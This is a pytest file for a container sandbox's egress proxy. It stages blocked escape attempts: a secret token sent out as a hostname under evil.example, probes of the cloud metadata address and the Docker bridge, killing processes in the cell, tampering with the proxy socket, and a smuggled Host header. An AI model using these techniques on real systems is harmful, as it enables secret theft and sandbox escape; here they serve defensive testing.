"""The network of a cell on the real engine: what a step reaches, what it does not, and what is on record."""

from __future__ import annotations

import ssl
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING

import pytest
import trustme

from isolation.model.policy import Policy
from isolation.settings import Settings
from isolation.wiring import open_controller
from tests.sandbox.egress.conftest import ASK, LOOPBACK, Json, Names, Outside, outputs_of, threads

if TYPE_CHECKING:
    from pathlib import Path

    from tests.sandbox.conftest import Recipe
    from tests.sandbox.egress.conftest import Reach

pytestmark = [pytest.mark.engine, pytest.mark.usefixtures("engine")]


def test_an_allowed_name_works_and_a_denied_one_says_why(reach: Reach, outside: Outside) -> None:
    """By plain urllib, without a word about a proxy in the scriptlet; both are on record."""
    result = reach(
        f"""
        def run(context, params):
            return {{
                "allowed": ask("http://site.example:{outside.port}/"),
                "denied": ask("http://other.example/"),
                "tunnel": ask("https://other.example/"),
                "inwards": ask("http://imds.example/latest/meta-data/"),
                "by address": ask("http://169.254.169.254/latest/meta-data/"),
            }}
        """,
        f"site.example:{outside.port}", f"{LOOPBACK}:{outside.port}", "*.example:80",
        names=Names(site_example=[[LOOPBACK]], imds_example=[["169.254.169.254"]], other_example=[[LOOPBACK]]),
    )  # fmt: skip

    needs = "the policy's network needs the entry"
    assert outputs_of(result) == {
        "allowed": "hello",
        "denied": "HTTP Error 403: Forbidden: other.example is allowed, but its address 127.0.0.1 is a loopback "
        f"address; {needs} '127.0.0.1:80'",
        "tunnel": f"<urlopen error Tunnel connection failed: 403 Forbidden: other.example:443 is not allowed; {needs} "
        "'other.example:443'>",
        "inwards": "HTTP Error 403: Forbidden: imds.example is allowed, but its address 169.254.169.254 is a metadata "
        f"service; {needs} '169.254.169.254:80'",
        "by address": f"HTTP Error 403: Forbidden: 169.254.169.254:80 is not allowed; {needs} '169.254.169.254:80'",
    }
    decisions = result.attempts[0].network.decisions
    assert [(one.via, one.host, one.port, one.allowed) for one in decisions] == [
        ("http", "site.example", outside.port, True),
        ("http", "other.example", 80, False),
        ("connect", "other.example", 443, False),
        ("http", "imds.example", 80, False),
        ("http", "169.254.169.254", 80, False),
    ]
    assert decisions[0].bytes_sent > 100
    assert decisions[0].bytes_received > 100
    assert len(outside.heard) == 1


@pytest.mark.usefixtures("crun")
def test_under_crun_it_is_the_same(reach: Reach, outside: Outside) -> None:
    """The way out is a socket and a process; who starts the container has no part in it."""
    result = reach(
        f"""
        def run(context, params):
            return {{"allowed": ask("http://127.0.0.1:{outside.port}/"), "denied": ask("http://127.0.0.1:1/")[:25]}}
        """,
        f"{LOOPBACK}:{outside.port}",
        runtime="crun",
    )

    assert outputs_of(result) == {"allowed": "hello", "denied": "HTTP Error 403: Forbidden"}


def test_a_listed_loopback_address_is_the_hosts(reach: Reach, outside: Outside) -> None:
    """The cell's own needs no entry, so who lists it means the host's; the cell's stays reachable by its name."""
    result = reach(
        f"""
        import os
        def run(context, params):
            return {{"heard": ask("http://127.0.0.1:{outside.port}/"), "own": os.environ["NO_PROXY"]}}
        """,
        f"{LOOPBACK}:{outside.port}",
    )

    assert outputs_of(result) == {"heard": "hello", "own": "localhost,::1"}


def test_tls_goes_from_the_step_to_the_server(reach: Reach, recipe: Recipe, outside: Outside) -> None:
    """With the step's own trust: the authority is a file of the recipe's, and nobody on the way has a key."""
    authority, theirs = trustme.CA(), ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("secure.example").configure_cert(theirs)
    outside.socket = theirs.wrap_socket(outside.socket, server_side=True)
    folder = recipe("")
    authority.cert_pem.write_to_path(str(folder / "authority.pem"))

    result = reach(
        f"""
        import ssl
        def run(context, params):
            trust = ssl.create_default_context(cafile="authority.pem")
            place = "https://secure.example:{outside.port}/"
            return {{"trusting": ask(place, context=trust), "not trusting": ask(place)[:60]}}
        """,
        f"secure.example:{outside.port}", f"{LOOPBACK}:{outside.port}",
        names=Names(secure_example=[[LOOPBACK]]), extra="files: [authority.pem]",
    )  # fmt: skip

    assert outputs_of(result) == {
        "trusting": "hello",
        "not trusting": "<urlopen error [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed"[:60],
    }
    assert [decision.via for decision in result.attempts[0].network.decisions] == ["connect", "connect"]


AROUND = """
import errno, os, socket

def attempt(do):
    try:
        do()
    except OSError as error:
        return type(error).__name__ if isinstance(error, socket.gaierror) else errno.errorcode[error.errno]
    return "done"

def connect(address, port, family=socket.AF_INET):
    return attempt(lambda: socket.create_connection((address, port), timeout=5))

def send(address, port):
    return attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (address, port)))

def run(context, params):
    return {
        "public": connect("192.0.43.8", 443),
        "metadata": connect("169.254.169.254", 80),
        "bridge": connect("172.17.0.1", 2375),
        "IPv6": connect("2606:4700::1", 443),
        "UDP": send("192.0.43.8", 53),
        "DNS": attempt(lambda: socket.getaddrinfo("site.example", 80)),
        "DNS by hand": send("127.0.0.11", 53),
        "interfaces": [line.split(":")[0].strip() for line in open("/proc/net/dev") if ":" in line],
        "mode": oct(os.stat("/egress/proxy.sock").st_mode & 0o777),
        "replace": attempt(lambda: os.unlink("/egress/proxy.sock")),
        "loosen": attempt(lambda: os.chmod("/egress/proxy.sock", 0o666)),
        "add": attempt(lambda: os.mkdir("/egress/x")),
    }
"""


def test_around_the_proxy_there_is_no_way(reach: Reach) -> None:
    """D 64, D 65: the kernel has no route and no interface, nobody answers for names, and the socket stays as it is."""
    outputs = outputs_of(reach(AROUND, "site.example:443"))

    for place in ("public", "metadata", "bridge", "UDP"):
        assert outputs.pop(place) == "ENETUNREACH"
    assert outputs.pop("IPv6") in {"ENETUNREACH", "EADDRNOTAVAIL"}
    assert outputs.pop("DNS by hand") in {"done", "ECONNREFUSED"}, "loopback: nobody is there"
    assert outputs == {
        "DNS": "gaierror",
        "interfaces": ["lo"],
        "mode": "0o600",
        "replace": "EROFS",
        "loosen": "EROFS",
        "add": "EROFS",
    }


def test_who_speaks_to_the_socket_itself_is_told_the_same(reach: Reach, outside: Outside) -> None:
    """What may be reached is decided on the host's side: the forwarder can be left out, or killed."""
    result = reach(
        f"""
        import errno, os, signal, socket
        def say(content):
            with socket.socket(socket.AF_UNIX) as way:
                way.connect("/egress/proxy.sock")
                way.sendall(content)
                return way.recv(1000).decode().split(":")[0].splitlines()[0]
        def run(context, params):
            place = "site.example:{outside.port}"
            get = f"GET http://{{place}}/ HTTP/1.1\\r\\nHost: {{place}}\\r\\n"
            for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
                if pid not in (1, os.getpid(), os.getppid()):
                    os.kill(pid, signal.SIGKILL)
            refused = False
            while not refused:
                with socket.socket() as client:
                    refused = client.connect_ex(("127.0.0.1", 3128)) == errno.ECONNREFUSED
            return {{
                "forwarder": ask(f"http://{{place}}/")[:60],
                "allowed": say(f"{{get}}\\r\\n".encode()),
                "denied": say(b"CONNECT other.example:443 HTTP/1.1\\r\\nHost: other.example:443\\r\\n\\r\\n"),
                "smuggled": say(f"{{get}}Host: other.example\\r\\n\\r\\n".encode()),
            }}
        """,
        f"site.example:{outside.port}", f"{LOOPBACK}:{outside.port}",
        names=Names(site_example=[[LOOPBACK]]),
    )  # fmt: skip

    assert outputs_of(result) == {
        "forwarder": "<urlopen error [Errno 111] Connection refused>",
        "allowed": "HTTP/1.1 200 OK",
        "denied": "HTTP/1.1 403 Forbidden",
        "smuggled": "HTTP/1.1 400 Bad Request",
    }
    assert [one.allowed for one in result.attempts[0].network.decisions] == [True, False, False]


def test_two_runs_at_once_have_different_ways_out(tmp_path: Path, recipe: Recipe, outside: Outside) -> None:
    """What one may reach says nothing of the other."""
    folder = recipe(ASK + f"def run(context, params):\n    return {{'heard': ask('http://127.0.0.1:{outside.port}/')}}")

    def run(port: int) -> Json:
        policy = Policy.model_validate({"name": "test", "network": {"allow": [f"{LOOPBACK}:{port}"]}})
        with open_controller(Settings(state=tmp_path / str(port))) as controller:
            return outputs_of(controller.run(folder, policy=policy))

    with ThreadPoolExecutor(2) as runs:
        allowed, denied = runs.map(run, [outside.port, 1])

    assert allowed == {"heard": "hello"}
    assert denied["heard"].startswith("HTTP Error 403: Forbidden")
    assert threads() == []


def test_a_secret_that_is_asked_for_as_a_name_is_on_no_record(tmp_path: Path, recipe: Recipe) -> None:
    """A step that has one may put it anywhere; what is kept of the request shows that it did, and not what."""
    folder = recipe(f"{ASK}def run(context, params):\n    ask('https://' + context.secret('TOKEN') + '.evil.example/')")
    written = (folder / "recipe.yaml").read_text()
    declared = written.replace("steps:", "secrets: [TOKEN]\nsteps:").replace("run}", "run, secrets: [TOKEN]}")
    (folder / "recipe.yaml").write_text(declared)
    policy = {"name": "test", "secrets": ["*"], "network": {"allow": ["site.example:443"]}}

    with open_controller(Settings(state=tmp_path / "state"), secrets={"TOKEN": "Correct-Horse-42"}) as controller:
        result = controller.run(folder, policy=Policy.model_validate(policy))

    (decision,) = result.attempts[0].network.decisions
    assert (decision.host, decision.allowed) == ("[secret TOKEN]", False)
    assert decision.why == "[secret TOKEN]"


def test_without_a_network_there_is_nothing_of_it(reach: Reach) -> None:
    """No socket, no variable, no listener."""
    result = reach(
        """
        import os, socket
        def run(context, params):
            try:
                socket.create_connection(("127.0.0.1", 3128))
            except OSError as error:
                refused = error.errno
            return {
                "folder": os.listdir("/egress"),
                "variables": [name for name in os.environ if "proxy" in name.lower()],
                "refused": refused,
            }
        """
    )

    assert outputs_of(result) == {"folder": [], "variables": [], "refused": 111}
    assert result.attempts[0].network.decisions == ()


PROGRAM = """
import sys
from isolation.model.policy import Policy
from isolation.settings import Settings
from isolation.wiring import open_controller
from pathlib import Path
folder = Path(sys.argv[1])
policy = Policy.model_validate({"name": "test", "network": {"allow": ["site.example:1"]} if sys.argv[2:] else "none"})
with open_controller(Settings(state=folder / "state")) as controller:
    assert controller.run(folder, policy=policy).succeeded
print(*(name for name in sys.modules if name == "h11" or name.startswith("isolation.sandbox.egress.")))
"""


def test_a_run_without_a_network_imports_nothing_for_one(recipe: Recipe) -> None:
    """Each run starts a process; who needs no network pays for none."""
    folder = recipe("def run(context, params): ...")

    def imported(*arguments: str) -> set[str]:
        program = [sys.executable, "-c", PROGRAM, str(folder), *arguments]
        return set(subprocess.run(program, capture_output=True, text=True, check=True).stdout.split())

    light = {f"isolation.sandbox.egress.{name}" for name in ("bounds", "discretion", "folder", "inside")}
    assert imported() == light
    assert {"h11", "isolation.sandbox.egress.exchange"} <= imported("with a network")
